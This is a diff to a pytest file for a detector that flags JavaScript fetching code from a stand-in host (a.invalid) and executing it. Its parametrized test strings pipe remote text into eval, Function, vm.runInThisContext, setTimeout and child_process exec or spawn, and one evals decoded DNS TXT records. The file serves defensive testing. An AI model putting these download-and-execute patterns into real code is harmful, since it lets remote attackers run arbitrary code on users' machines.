@@ -13,15 +13,15 @@ const url = "https://a.invalid/s";
 """
 
 
-def fault(reason: str) -> pytest.MarkDecorator:
-    return pytest.mark.xfail(strict=True, reason=reason)
-
-
 @pytest.mark.parametrize(
     "source",
     [
         "fetch(url).then((r) => r.text()).then((t) => eval(t));",
         "fetch(url).then((r) => r.text()).then(eval);",
+        "fetch(url).then((r) => r.text()).then(Function).then((f) => f());",
+        "fetch(url).then((r) => r.text()).then(globalThis['ev' + 'al'].bind(null));",
+        "https.get(url, (r) => r.on('data', eval));",
+        "async function f() { setTimeout(eval, 9, await (await fetch(url)).text()); }",
         "fetch(url).then((r) => r.json()).then((j) => new Function(j.code)());",
         "async function f() { const r = await fetch(url); (0, eval)(await r.text()); }",
         "async function f() { const { data } = await require('axios').get(url); eval(data); }",
@@ -40,10 +40,7 @@ def fault(reason: str) -> pytest.MarkDecorator:
            this.#ws.addEventListener('message', (e) => this.#on(JSON.parse(e.data))); }
            async #on({ id, type }) { vm.runInThisContext("(" + type + ")")(id); } }""",
         "require('dns').resolveTxt('a.invalid', (e, r) => eval(atob(r.flat().join(''))));",
-        pytest.param(
-            "fetch(url).then((r) => r.text()).then((t) => setTimeout(t, 10));",
-            marks=fault("a timer whose text has the name of an unknown call"),
-        ),
+        "fetch(url).then((r) => r.text()).then((t) => setTimeout(t, 10));",
         "fetch(url).then((r) => r.text()).then((t) => cp.exec(t));",
         "fetch(url).then((r) => r.text()).then((t) => cp.spawn('sh', ['-c', t]));",
         "fetch(url).then((r) => r.text()).then((t) => cp.spawnSync(process.execPath, ['-e', t]));",
@@ -123,8 +120,10 @@ def test_a_program_in_a_text_is_examined_too() -> None:
 )
 def test_what_only_pages_can_do_is_less_in_a_library(source: str) -> None:
     """Node has no XMLHttpRequest, and its fetch takes no relative address."""
-    assert worst(findings_of(CHECK, source), RULE) == Severity.CRITICAL
-    assert worst(findings_of(CHECK, source, is_for_editor=False), RULE) == Severity.MEDIUM
+    used = 'const vscode = require("vscode");' + source
+    assert worst(findings_of(CHECK, used), RULE) == Severity.CRITICAL
+    assert worst(findings_of(CHECK, source), RULE) == Severity.MEDIUM
+    assert worst(findings_of(CHECK, used, is_for_editor=False), RULE) == Severity.MEDIUM
 
 
 @pytest.mark.parametrize("address", ["https://a.invalid/s", "//a.invalid/s", "...", "./"])
